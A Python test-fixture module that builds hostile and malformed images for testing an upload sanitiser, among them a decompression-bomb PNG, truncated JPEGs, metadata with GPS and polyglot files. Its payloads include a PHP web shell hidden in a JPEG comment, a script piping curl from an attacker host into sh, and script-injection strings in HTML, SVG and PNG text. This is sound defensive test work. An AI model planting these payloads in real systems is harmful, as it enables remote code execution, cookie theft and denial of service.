"""Hostile and odd images, generated here (nothing binary is checked in).

Each maker returns the bytes of one file. Where Pillow cannot write a format (a PSD, a
16-bit RGB PNG, a decompression bomb without allocating it) the file is put together by
hand from its specification, small and exact.
"""

from __future__ import annotations

import io
import struct
import zlib

from PIL import ExifTags, Image, ImageCms

RED = (255, 0, 0)
GREEN = (0, 255, 0)
BLUE = (0, 0, 255)


def encode(image: Image.Image, fmt: str, **params) -> bytes:
    out = io.BytesIO()
    image.save(out, format=fmt, **params)
    return out.getvalue()


def noisy(size=(320, 240)) -> Image.Image:
    """Incompressible pixels, so a JPEG of it is long enough to cut in half."""
    import random

    rng = random.Random(7)
    return Image.frombytes(
        "RGB", size, bytes(rng.getrandbits(8) for _ in range(size[0] * size[1] * 3))
    )


def halves(size=(40, 20), left=RED, right=BLUE) -> Image.Image:
    """Left half ``left``, right half ``right``: shows which way an image was turned."""
    image = Image.new("RGB", size, right)
    image.paste(left, (0, 0, size[0] // 2, size[1]))
    return image


# --- PNG by hand --------------------------------------------------------------------------


def _chunk(kind: bytes, data: bytes) -> bytes:
    return (
        struct.pack(">I", len(data))
        + kind
        + data
        + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    )


def png_by_hand(width: int, height: int, *, bit_depth: int, colour_type: int, row: bytes) -> bytes:
    """A PNG whose every scanline is ``row`` (filter byte 0 added), compressed as a
    stream so a 20000x20000 image never exists in memory."""
    ihdr = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    compressor = zlib.compressobj(9)
    scanline = b"\x00" + row
    parts = []
    batch = scanline * 256
    for _ in range(height // 256):
        parts.append(compressor.compress(batch))
    parts.append(compressor.compress(scanline * (height % 256)))
    parts.append(compressor.flush())
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", ihdr)
        + _chunk(b"IDAT", b"".join(parts))
        + _chunk(b"IEND", b"")
    )


def bomb_png(side: int = 20000) -> bytes:
    """A one-colour 1-bit PNG of ``side`` x ``side`` pixels: a few dozen KB on disk,
    400 megapixels (1.2 GB as RGB) once decoded."""
    return png_by_hand(side, side, bit_depth=1, colour_type=0, row=b"\x00" * ((side + 7) // 8))


def wide_png(width: int = 30000, height: int = 2) -> bytes:
    """Few pixels, absurd proportions."""
    return png_by_hand(width, height, bit_depth=1, colour_type=0, row=b"\xff" * ((width + 7) // 8))


def rgb16_png(colour=(0xFF00, 0x0000, 0x0000), size=(8, 8)) -> bytes:
    """A 16-bit-per-channel RGB PNG (Pillow writes none)."""
    row = struct.pack(">HHH", *colour) * size[0]
    return png_by_hand(size[0], size[1], bit_depth=16, colour_type=2, row=row)


def grey16_png(value: int = 0x8000, size=(8, 8)) -> bytes:
    image = Image.new("I;16", size)
    image.putdata([value] * (size[0] * size[1]))
    return encode(image, "PNG")


def png_with_metadata() -> bytes:
    """A PNG carrying an EXIF chunk with GPS, a text chunk and an ICC profile."""
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    return encode(
        Image.new("RGB", (16, 16), RED),
        "PNG",
        pnginfo=info,
        exif=gps_exif(),
        icc_profile=srgb_icc(),
    )


# --- JPEG -----------------------------------------------------------------------------------


def gps_exif(orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneMaker"
    exif[ExifTags.Base.Model] = "Phone 12"
    if orientation is not None:
        exif[ExifTags.Base.Orientation] = orientation
    exif[ExifTags.IFD.GPSInfo] = {
        ExifTags.GPS.GPSLatitudeRef: "N",
        ExifTags.GPS.GPSLatitude: (31.0, 17.0, 52.0),
        ExifTags.GPS.GPSLongitudeRef: "E",
        ExifTags.GPS.GPSLongitude: (121.0, 30.0, 11.0),
    }
    return exif


def jpeg_with_gps() -> bytes:
    return encode(halves(), "JPEG", quality=95, exif=gps_exif(), xmp=b"<x:xmpmeta>gps</x:xmpmeta>")


def jpeg_rotated() -> bytes:
    """Stored sideways with EXIF orientation 6 ("rotate 90° clockwise to display"):
    40x20 as stored, red on the left; upright it is 20x40 with red on top."""
    return encode(halves(), "JPEG", quality=95, exif=gps_exif(orientation=6))


def cmyk_jpeg() -> bytes:
    return encode(Image.new("CMYK", (16, 16), (0, 255, 255, 0)), "JPEG", quality=95)


def truncated_jpeg() -> bytes:
    data = encode(noisy(), "JPEG", quality=90)
    return data[: len(data) // 2]


def jpeg_claiming_size(width: int, height: int) -> bytes:
    """A real JPEG whose frame header (SOF0) claims another size."""
    data = bytearray(encode(Image.new("RGB", (8, 8), RED), "JPEG"))
    sof = data.index(b"\xff\xc0")
    # FFC0, length (2), precision (1), height (2), width (2)
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def jpeg_with_php_comment() -> bytes:
    """A polyglot: a valid JPEG carrying PHP in its comment segment."""
    return encode(
        Image.new("RGB", (16, 16), GREEN), "JPEG", comment=b"<?php system($_GET['c']); ?>"
    )


# --- Animations -------------------------------------------------------------------------------


def _frames():
    return [Image.new("RGB", (24, 24), c) for c in (RED, GREEN, BLUE)]


def animated_gif() -> bytes:
    first, *rest = _frames()
    return encode(first, "GIF", save_all=True, append_images=rest, duration=100, loop=0)


def animated_webp() -> bytes:
    first, *rest = _frames()
    return encode(first, "WEBP", save_all=True, append_images=rest, duration=100, lossless=True)


def animated_png() -> bytes:
    first, *rest = _frames()
    return encode(first, "PNG", save_all=True, append_images=rest, duration=100)


def webp_with_metadata() -> bytes:
    return encode(
        Image.new("RGB", (16, 16), RED),
        "WEBP",
        lossless=True,
        exif=gps_exif(),
        icc_profile=srgb_icc(),
        xmp=b"<x:xmpmeta>webp</x:xmpmeta>",
    )


# --- Other formats -------------------------------------------------------------------------


def tiff() -> bytes:
    return encode(Image.new("RGB", (16, 16), RED), "TIFF")


def bmp() -> bytes:
    return encode(Image.new("RGB", (16, 16), RED), "BMP")


def gif() -> bytes:
    return encode(Image.new("RGB", (16, 16), RED), "GIF")


def psd() -> bytes:
    """A minimal RGB Photoshop file, 16x16, raw data (Pillow reads PSD but writes none)."""
    width = height = 16
    header = b"8BPS" + struct.pack(">H", 1) + b"\x00" * 6
    header += struct.pack(">HIIHH", 3, height, width, 8, 3)  # channels, h, w, depth, RGB
    sections = struct.pack(">I", 0) * 3  # colour mode data, resources, layers: empty
    planes = b"\xff" * (width * height) + b"\x00" * (width * height) * 2  # red
    return header + sections + struct.pack(">H", 0) + planes


def eps() -> bytes:
    """An EPS header: Pillow would hand the file to Ghostscript to decode it."""
    return (
        b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 16 16\n%%EndComments\n"
        b"0 0 moveto 16 16 lineto stroke\nshowpage\n%%EOF\n"
    )


SCRIPT = b"#!/bin/sh\ncurl http://attacker.invalid/x | sh\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script></svg>"
)


def png_with_html_appended() -> bytes:
    return encode(Image.new("RGB", (16, 16), BLUE), "PNG") + HTML


def transparent_png() -> bytes:
    image = Image.new("RGBA", (16, 16), (255, 0, 0, 0))
    image.paste((0, 0, 255, 255), (0, 0, 8, 16))
    return encode(image, "PNG")


def palette_png_with_transparency() -> bytes:
    image = Image.new("P", (16, 16), 0)
    image.putpalette([0, 0, 0, 255, 0, 0] + [0] * 762)
    image.paste(1, (0, 0, 8, 16))
    return encode(image, "PNG", transparency=0)


def grey_jpeg() -> bytes:
    return encode(Image.new("L", (16, 16), 128), "JPEG")


# --- ICC profiles ----------------------------------------------------------------------------


def srgb_icc() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def _s15(value: float) -> bytes:
    return struct.pack(">i", round(value * 65536))


def _xyz(x: float, y: float, z: float) -> bytes:
    return b"XYZ " + b"\x00" * 4 + _s15(x) + _s15(y) + _s15(z)


def swapped_primaries_icc() -> bytes:
    """An RGB display profile (ICC v2, matrix/TRC) with sRGB's red and green primaries
    swapped: a pixel stored as pure red *means* sRGB green. Only a conversion through
    the profile gets it right."""
    red, green, blue = (0.4361, 0.2225, 0.0139), (0.3851, 0.7169, 0.0971), (0.1431, 0.0606, 0.7141)
    text = b"swapped primaries\x00"
    desc = b"desc" + b"\x00" * 4 + struct.pack(">I", len(text)) + text + b"\x00" * 78
    gamma = b"curv" + b"\x00" * 4 + struct.pack(">IH", 1, round(2.2 * 256)) + b"\x00\x00"
    tags = [
        (b"desc", desc),
        (b"wtpt", _xyz(0.9642, 1.0, 0.8249)),
        (b"rXYZ", _xyz(*green)),
        (b"gXYZ", _xyz(*red)),
        (b"bXYZ", _xyz(*blue)),
        (b"rTRC", gamma),
        (b"gTRC", gamma),
        (b"bTRC", gamma),
    ]
    offset = 128 + 4 + 12 * len(tags)
    table, data = b"", b""
    for signature, body in tags:
        data += b"\x00" * (-(offset + len(data)) % 4)
        table += signature + struct.pack(">II", offset + len(data), len(body))
        data += body
    body = struct.pack(">I", len(tags)) + table + data
    header = (
        struct.pack(">I", 128 + len(body))
        + b"lcms"
        + struct.pack(">I", 0x02100000)
        + b"mntrRGB XYZ "
        + b"\x00" * 12
        + b"acspAPPL"
        + b"\x00" * 24  # flags, manufacturer, model, attributes, rendering intent
        + _s15(0.9642)
        + _s15(1.0)
        + _s15(0.8249)
        + b"lcms"
        + b"\x00" * 44
    )
    assert len(header) == 128
    return header + body


def png_with_profile(icc: bytes, colour=RED) -> bytes:
    return encode(Image.new("RGB", (16, 16), colour), "PNG", icc_profile=icc)


# --- What we store ---------------------------------------------------------------------------


def assert_clean(data: bytes) -> Image.Image:
    """What we store: a JPEG with no EXIF (no GPS), no ICC profile, no XMP, no comment."""
    image = Image.open(io.BytesIO(data))
    image.load()
    assert image.format == "JPEG"
    assert image.mode == "RGB"
    assert not image.getexif()
    for key in ("exif", "icc_profile", "xmp", "XML:com.adobe.xmp", "comment", "photoshop"):
        assert key not in image.info, key
    assert b"Exif\x00\x00" not in data
    assert b"PhoneMaker" not in data and b"xmpmeta" not in data
    return image
